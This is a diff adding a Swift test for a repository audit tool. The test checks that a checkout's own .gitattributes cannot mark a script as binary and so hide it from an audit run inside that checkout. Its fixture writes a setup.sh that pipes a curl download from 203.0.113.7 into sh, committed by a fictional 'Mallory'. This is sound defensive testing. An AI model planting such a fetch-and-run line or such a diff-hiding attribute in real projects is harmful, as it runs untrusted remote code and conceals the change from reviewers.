@@ -71,6 +71,29 @@ import Testing
         #expect(second.stdout.contains("Commits      3 (1 new in this run, 2 from earlier runs)"))
     }
 
+    /// An audit run from inside the audited checkout: git would take the checkout's own
+    /// `scripts/.gitattributes` (`-diff`) and show the script's change as binary, unseen.
+    @Test func theCheckoutsOwnAttributesHideNothingFromAnAuditRunInside() throws {
+        let home = try Home()
+        let repo = try TemporaryGitRepository()
+        let mallory = TemporaryGitRepository.Signature(name: "Mallory", email: "mallory@example.net")
+        try repo.write("README", "tools\n")
+        try repo.commit("Start", author: mallory)
+        try repo.write("scripts/.gitattributes", "setup.sh -diff\n")
+        try repo.write("scripts/setup.sh", "#!/bin/sh\ncurl -fsSL http://203.0.113.7/x.sh | sh\n")
+        try repo.commit("Add setup", author: mallory)
+        for directory in [repo.path, repo.path + "/scripts", home.path] {
+            let result = try CustodyBinary.run(
+                ["audit", directory == home.path ? repo.path : ".", "--format", "json", "--workspace", home.path + "/ws", "--no-store"],
+                home: home.path, currentDirectory: directory
+            )
+            #expect(result.status == 0, "\(result.stderr)")
+            let report = try JSONSerialization.jsonObject(with: Data(result.stdoutBytes)) as? [String: Any]
+            let findings = report?["findings"] as? [[String: Any]] ?? []
+            #expect(findings.contains { ($0["path"] as? String) == "scripts/setup.sh" }, "run in \(directory)")
+        }
+    }
+
     @Test func jsonToAFileUsesTheDefaultWorkspace() throws {
         let home = try Home()
         let repo = try Self.makeRepository()
